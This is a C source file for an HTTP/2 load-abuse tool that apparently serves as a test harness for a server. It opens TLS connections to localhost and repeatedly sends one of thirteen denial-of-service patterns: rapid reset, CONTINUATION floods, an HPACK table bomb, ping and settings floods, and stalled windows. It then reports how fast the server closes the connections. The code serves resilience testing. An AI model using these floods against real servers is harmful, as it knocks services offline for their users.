/* An HTTP/2 abuser for bystander.py: TLS 1.3 with ALPN, frames written by hand, one thread, epoll.
 *
 * Every connection sends one kind of abuse as fast as the peer takes it, and is opened anew as soon
 * as the peer has closed it. What the peer says is not decrypted: only that it closes is noticed.
 *
 * Prints `begin` when the first connection is open. Stops when its input ends, or after -s seconds;
 * then prints `end {json}`: connections opened and cut (closed by the peer), how long until the
 * first cut and, in the median, until a cut (seconds from a connection's first byte of abuse),
 * rounds of frames sent.
 *
 * Build: gcc -O2 -o abuser abuser.c -lssl -lcrypto
 */
#define _GNU_SOURCE
#include "client.h"

#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stddef.h>
#include <unistd.h>

enum { CONNECTING, HANDSHAKING, ABUSING };
enum { FRAME_MAX = 16384, ROUND_MAX = FRAME_MAX + 64, OUT_MAX = 2 * ROUND_MAX, WIDTH = 100 };
enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 6, WINDOW_UPDATE = 8, CONTINUATION };
enum { END_STREAM = 1, END_HEADERS = 4 };

struct connection {
    int fd, state, wants_out;
    SSL *ssl;
    double begun;            /* when it was open */
    long round;
    int out_count, out_sent;
    unsigned char out[OUT_MAX];
};

struct attack {
    const char *name;
    void (*opening)(struct connection *);
    void (*round)(struct connection *, uint32_t stream);   /* NULL: the opening is all */
};

static int port, connections = 8, poller;
static const struct attack *attack;
static SSL_CTX *context;
static struct connection *all;
static long opened, cuts, refused, rounds;
static double first_cut = -1;

/* Frames. */

static void frame(struct connection *c, int type, int flags, uint32_t stream, const void *payload,
                  int count) {
    unsigned char *p = c->out + c->out_count;
    unsigned char head[9] = {count >> 16, count >> 8, count, type, flags,
                             stream >> 24, stream >> 16, stream >> 8, stream};
    memcpy(p, head, sizeof head);
    if (count) memcpy(p + sizeof head, payload, count);
    c->out_count += sizeof head + count;
}

static void number_frame(struct connection *c, int type, uint32_t stream, uint32_t number) {
    uint32_t payload = htonl(number);
    frame(c, type, 0, stream, &payload, 4);
}

/* The fields of a request, `more` bytes of a field block behind them. */
static void request(struct connection *c, uint32_t stream, int is_post, const char *path, int flags,
                    const void *more, int count) {
    unsigned char block[FRAME_MAX], *p = block;
    *p++ = is_post ? 0x83 : 0x82;
    *p++ = 0x87;
    *p++ = 0x04;
    *p++ = strlen(path);
    p = mempcpy(p, path, strlen(path));
    *p++ = 0x01;
    *p++ = 9;
    p = mempcpy(p, "localhost", 9);
    if (count) p = mempcpy(p, more, count);
    frame(c, HEADERS, flags, stream, block, p - block);
}

static void get(struct connection *c, uint32_t stream, const char *path) {
    request(c, stream, 0, path, END_STREAM | END_HEADERS, NULL, 0);
}

static void setting(struct connection *c, int name, uint32_t value) {
    unsigned char payload[6] = {name >> 8, name, value >> 24, value >> 16, value >> 8, value};
    frame(c, SETTINGS, 0, 0, payload, 6);
}

/* A field of `size` bytes that ends a block or goes into the table; how many bytes it takes. */
static int field(unsigned char *to, int kind, int size) {
    int rest = size - 127, count = 0;
    to[count++] = kind;
    to[count++] = 3;
    memcpy(to + count, "x-a", 3);
    count += 3;
    to[count++] = 127;
    for (; rest >= 128; rest >>= 7) to[count++] = 128 | (rest & 127);
    to[count++] = rest;
    memset(to + count, 'b', size);
    return count + size;
}

/* Attacks. */

static void rapid_reset(struct connection *c, uint32_t stream) {
    get(c, stream, "/100");
    number_frame(c, RST_STREAM, stream, 8);
}

/* The peer resets: an increment of 0 is an error of the stream. */
static void made_reset(struct connection *c, uint32_t stream) {
    get(c, stream, "/100");
    number_frame(c, WINDOW_UPDATE, stream, 0);
}

static void open_block(struct connection *c) { request(c, 1, 0, "/100", END_STREAM, NULL, 0); }

static void continuation(struct connection *c, uint32_t stream) {
    unsigned char block[FRAME_MAX];
    (void)stream;
    frame(c, CONTINUATION, 0, 1, block, field(block, 0, 16000));
}

static void empty_continuation(struct connection *c, uint32_t stream) {
    (void)stream;
    frame(c, CONTINUATION, 0, 1, NULL, 0);
}

static void ping(struct connection *c, uint32_t stream) {
    (void)stream;
    frame(c, PING, 0, 0, "12345678", 8);
}

static void settings(struct connection *c, uint32_t stream) { setting(c, 4, 65535 - stream % 3); }

static void priority(struct connection *c, uint32_t stream) {
    frame(c, PRIORITY, 0, stream % 2000 | 1, "\0\0\0\0\20", 5);
}

static void window_update(struct connection *c, uint32_t stream) {
    (void)stream;
    number_frame(c, WINDOW_UPDATE, 0, 1);
}

static void open_upload(struct connection *c) {
    request(c, 1, 1, "/up", END_HEADERS, "\x0f\x0d\x04" "1000", 7);   /* content-length */
}

static void empty_data(struct connection *c, uint32_t stream) {
    (void)stream;
    frame(c, DATA, 0, 1, NULL, 0);
}

static void stalled(struct connection *c) {
    setting(c, 4, 0);
    for (int i = 0; i < WIDTH; i++) get(c, 2 * i + 1, "/1048576");
}

/* One byte each, so that the peer has something to do for streams that never end. */
static void trickled(struct connection *c, uint32_t stream) {
    number_frame(c, WINDOW_UPDATE, stream % (2 * WIDTH) | 1, 1);
}

static void table_entry(struct connection *c) {
    unsigned char entry[4096];
    request(c, 1, 0, "/100", END_STREAM | END_HEADERS, entry, field(entry, 0x40, 4000));
}

/* 48 MB in 12 KB. */
static void table_bomb(struct connection *c, uint32_t stream) {
    unsigned char references[12000];
    memset(references, 0x80 | 62, sizeof references);
    request(c, stream, 0, "/100", END_STREAM | END_HEADERS, references, sizeof references);
}

static const struct attack attacks[] = {
    {"handshakes", NULL, NULL},
    {"rapid-reset", NULL, rapid_reset},
    {"made-reset", NULL, made_reset},
    {"continuation", open_block, continuation},
    {"continuation-empty", open_block, empty_continuation},
    {"ping", NULL, ping},
    {"settings", NULL, settings},
    {"priority", NULL, priority},
    {"window-update", NULL, window_update},
    {"empty-data", open_upload, empty_data},
    {"stalled", stalled, NULL},
    {"trickled", stalled, trickled},
    {"hpack-bomb", table_entry, table_bomb},
};
enum { ATTACKS = sizeof attacks / sizeof *attacks };

/* Connections. */

static void open_connection(struct connection *c);

static void watch(struct connection *c, int out) {
    if (c->wants_out == out) return;
    c->wants_out = out;
    struct epoll_event e = {.events = EPOLLIN | (out ? EPOLLOUT : 0), .data.ptr = c};
    epoll_ctl(poller, EPOLL_CTL_MOD, c->fd, &e);
}

static void open_again(struct connection *c) {
    if (c->ssl) {
        SSL_set_shutdown(c->ssl, SSL_SENT_SHUTDOWN | SSL_RECEIVED_SHUTDOWN);
        SSL_free(c->ssl);
        c->ssl = NULL;
    }
    close(c->fd);
    open_connection(c);
}

static void was_cut(struct connection *c) {
    if (c->state == ABUSING) {
        double span = now() - c->begun;
        cuts++;
        note_latency(span);
        if (first_cut < 0) first_cut = span;
    } else {
        refused++;
        usleep(1000);
    }
    open_again(c);
}

static void abuse(struct connection *c) {
    for (int budget = 4; budget > 0; budget--) {
        if (c->out_sent == c->out_count) {
            c->out_sent = c->out_count = 0;
            if (!attack->round) break;
            while (c->out_count < FRAME_MAX && c->out_count + ROUND_MAX <= OUT_MAX) {
                attack->round(c, 2 * c->round++ + 3);
                rounds++;
            }
        }
        long n = put(c->fd, c->ssl, (char *)c->out + c->out_sent, c->out_count - c->out_sent);
        if (n < 0) { was_cut(c); return; }
        c->out_sent += n;
        if (n == 0) break;
    }
    watch(c, c->out_sent < c->out_count || attack->round);
}

static void begin(struct connection *c) {
    const unsigned char *name;
    unsigned count;
    SSL_get0_alpn_selected(c->ssl, &name, &count);
    if (count != 2) {
        fprintf(stderr, "abuser: h2 was not negotiated\n");
        exit(1);
    }
    if (!opened++) {
        printf("begin\n");
        fflush(stdout);
    }
    c->begun = now();
    c->state = ABUSING;
    if (!strcmp(attack->name, "handshakes")) { open_again(c); return; }
    memcpy(c->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    c->out_count = 24;
    frame(c, SETTINGS, 0, 0, NULL, 0);
    if (attack->opening) attack->opening(c);
    abuse(c);
}

static void handshake(struct connection *c) {
    int n = SSL_do_handshake(c->ssl);
    if (n == 1) { begin(c); return; }
    int why = SSL_get_error(c->ssl, n);
    if (why == SSL_ERROR_WANT_READ) watch(c, 0);
    else if (why == SSL_ERROR_WANT_WRITE) watch(c, 1);
    else was_cut(c);
}

static void advance(struct connection *c, uint32_t events) {
    static char dropped[65536];
    if (c->state == CONNECTING) {
        int error = 0;
        socklen_t count = sizeof error;
        getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &error, &count);
        if (error) { was_cut(c); return; }
        c->ssl = SSL_new(context);
        SSL_set_fd(c->ssl, c->fd);
        SSL_set_tlsext_host_name(c->ssl, "localhost");
        SSL_set_connect_state(c->ssl);
        c->state = HANDSHAKING;
    }
    if (c->state == HANDSHAKING) { handshake(c); return; }
    if (events & (EPOLLIN | EPOLLERR | EPOLLHUP)) {
        long n = recv(c->fd, dropped, sizeof dropped, MSG_DONTWAIT);
        if (n == 0 || (n < 0 && errno != EAGAIN)) { was_cut(c); return; }
    }
    if (events & EPOLLOUT) abuse(c);
}

static void open_connection(struct connection *c) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    int on = 1;
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    memset(c, 0, offsetof(struct connection, out));
    c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (c->fd < 0) die("socket");
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    if (connect(c->fd, (void *)&to, sizeof to) < 0 && errno != EINPROGRESS) die("connect");
    c->wants_out = 1;
    struct epoll_event e = {.events = EPOLLIN | EPOLLOUT, .data.ptr = c};
    epoll_ctl(poller, EPOLL_CTL_ADD, c->fd, &e);
}

int main(int argc, char **argv) {
    const char *name = "";
    double seconds = 10;
    int option;
    while ((option = getopt(argc, argv, "a:c:k:s:")) != -1) switch (option) {
        case 'a': port = atoi(optarg); break;
        case 'c': connections = atoi(optarg); break;
        case 'k': name = optarg; break;
        case 's': seconds = atof(optarg); break;
        default: port = 0;
        }
    for (int i = 0; i < ATTACKS; i++)
        if (!strcmp(attacks[i].name, name)) attack = &attacks[i];
    if (!port || connections < 1 || !attack) {
        fprintf(stderr, "usage: abuser -a PORT -k kind [-c connections] [-s seconds]\n  kinds:");
        for (int i = 0; i < ATTACKS; i++) fprintf(stderr, " %s", attacks[i].name);
        fprintf(stderr, "\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    all = calloc(connections, sizeof *all);
    poller = epoll_create1(EPOLL_CLOEXEC);
    context = tls_context(0);
    SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\2h2", 3);
    struct epoll_event told = {.events = EPOLLIN, .data.ptr = NULL}, events[64];
    epoll_ctl(poller, EPOLL_CTL_ADD, STDIN_FILENO, &told);
    double start = now(), end = start + seconds;
    for (int i = 0; i < connections; i++) open_connection(&all[i]);
    for (int stopped = 0; !stopped && now() < end;) {
        int count = epoll_wait(poller, events, 64, 100);
        for (int i = 0; i < count; i++) {
            if (events[i].data.ptr) advance(events[i].data.ptr, events[i].events);
            else stopped = 1;
        }
    }
    sort_latencies();
    printf("end {\"opened\": %ld, \"cuts\": %ld, \"refused\": %ld, \"rounds\": %ld, "
           "\"seconds\": %.6f, \"first\": %.6f, \"cut\": %.6f}\n",
           opened, cuts, refused, rounds, now() - start, first_cut, percentile(0.5) / 1e6);
    return 0;
}
